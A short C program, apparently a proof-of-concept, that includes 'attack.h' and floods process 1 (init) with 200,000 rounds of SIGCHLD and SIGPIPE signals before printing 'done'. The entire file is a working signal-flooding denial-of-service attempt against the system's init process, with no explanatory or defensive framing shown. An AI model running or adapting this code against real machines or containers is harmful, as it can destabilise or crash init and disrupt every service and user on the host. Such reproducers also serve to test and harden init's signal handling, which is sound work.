#include "attack.h"

int main(void) {
  for (int i = 0; i < 200000; ++i) {
    kill(1, SIGCHLD);
    kill(1, SIGPIPE);
  }
  printf("done\n");
  return 0;
}
